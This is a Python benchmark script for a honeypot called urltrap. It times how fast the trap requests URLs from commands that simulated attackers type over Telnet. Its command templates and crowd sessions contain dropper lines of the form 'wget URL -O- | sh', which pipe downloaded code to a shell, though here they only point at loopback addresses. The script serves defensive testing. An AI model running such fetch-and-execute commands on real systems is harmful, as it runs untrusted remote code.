"""Time from an attacker's command to the request for its URL, on an idle system or beside other attackers.

    python bench/capture.py [--times 50] [--crowd 0]

Starts the whole system (`urltrap up`) on loopback with a fresh data folder, logs in over Telnet, and types commands
whose URLs lie on a loopback server: `program` runs wget (the trap asks the fetcher itself), `text` only names the URL
to a program that the machine does not have (recovery and pipeline ask). `--crowd`: so many other sessions type
a dropper's line with a dead URL twice a second, each with verdicts to be found and captures that fail.

Prints one JSON line with p50, p95 and the largest, in milliseconds, of each way, and how many lines the crowd typed.
"""

from __future__ import annotations

import argparse
import http.server
import json
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from tests.support.running import PASSWORD, RunningTrap
from tests.support.telnet import TelnetClient

WAYS = {"program": "wget -q {url} -O /dev/null", "text": "nosuchprogram && wget {url} -O- | sh"}
SETTINGS = {
    "URLTRAP_EGRESS__PER_HOST_PER_MINUTE": "10000",
    "URLTRAP_EGRESS__TOTAL_PER_MINUTE": "10000",
    "URLTRAP_EGRESS__SIBLINGS": "0",
    "URLTRAP_EGRESS__OTHER_CLIENTS": "false",
}


class Arrivals:
    """A loopback server that notes when each path was asked for first."""

    def __init__(self) -> None:
        self.at: dict[str, float] = {}
        self.news = threading.Condition()
        arrivals = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with arrivals.news:
                    arrivals.at.setdefault(self.path, time.monotonic())
                    arrivals.news.notify_all()
                body = b"#!/bin/sh\nexit 0\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                """Silent."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait(self, path: str, seconds: float) -> float:
        """When `path` was asked for; infinity where it was not within `seconds`."""
        with self.news:
            self.news.wait_for(lambda: path in self.at, seconds)
            return self.at.get(path, float("inf"))


def measure(trap: RunningTrap, arrivals: Arrivals, way: str, times: int) -> dict[str, float]:
    """The milliseconds of `times` commands of one way."""
    taken: list[float] = []
    base = f"http://127.0.0.1:{arrivals.server.server_address[1]}"
    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
        client.login("root", PASSWORD)
        for number in range(times):
            path = f"/{way}/{number}"
            begun = time.monotonic()
            client.run(WAYS[way].format(url=base + path))
            taken.append((arrivals.wait(path, 20) - begun) * 1000)
    taken.sort()
    return {
        "n": times,
        "p50_ms": round(statistics.median(taken), 1),
        "p95_ms": round(taken[max(0, int(0.95 * times) - 1)], 1),
        "largest_ms": round(taken[-1], 1),
    }


def crowd(trap: RunningTrap, over: threading.Event, lines: list[int], number: int) -> None:
    """One other attacker: a line after the other, each with a URL of its own on which nobody listens."""
    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
        client.login("root", PASSWORD)
        while not over.is_set():
            client.run(f"nosuchprogram && wget http://127.0.0.1:9/{number}/{lines[number]} -O- | sh")
            lines[number] += 1
            over.wait(0.5)


def main() -> None:
    """Measure both ways and print them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--times", type=int, default=50)
    parser.add_argument("--crowd", type=int, default=0)
    options = parser.parse_args()
    times, lines = options.times, [0] * options.crowd
    with tempfile.TemporaryDirectory() as folder:
        trap = RunningTrap(Path(folder) / "data", SETTINGS)
        arrivals, over = Arrivals(), threading.Event()
        others = [threading.Thread(target=crowd, args=(trap, over, lines, n)) for n in range(options.crowd)]
        try:
            for other in others:
                other.start()
            result = {way: measure(trap, arrivals, way, times) for way in WAYS}
            print(json.dumps(result | {"crowd": options.crowd, "crowd_lines": sum(lines)}))
        finally:
            over.set()
            for other in others:
                other.join()
            trap.stop()
            arrivals.server.shutdown()


if __name__ == "__main__":
    main()
